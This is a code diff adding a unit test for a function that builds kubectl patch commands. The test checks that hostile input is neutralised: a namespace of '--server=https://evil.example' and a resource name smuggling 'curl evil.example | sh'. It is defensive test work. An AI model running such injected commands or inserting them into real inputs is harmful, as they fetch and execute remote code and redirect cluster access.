@@ -17,3 +17,10 @@ test.each([
 ])('%o', (patch, command) => {
   expect(patchCommand({ ...advice, ...patch }, shoot)).toBe(command)
 })
+
+test('a name that a shell would run is one word of the command', () => {
+  const hostile = { namespace: '--server=https://evil.example', name: 'a; curl evil.example | sh\n' }
+  expect(patchCommand({ ...advice, patch: '{}', patchType: 'merge' }, hostile)).toBe(
+    `kubectl -n server=https://evil.example patch shoot 'a; curl evil.example | sh' --type merge -p '{}'`,
+  )
+})
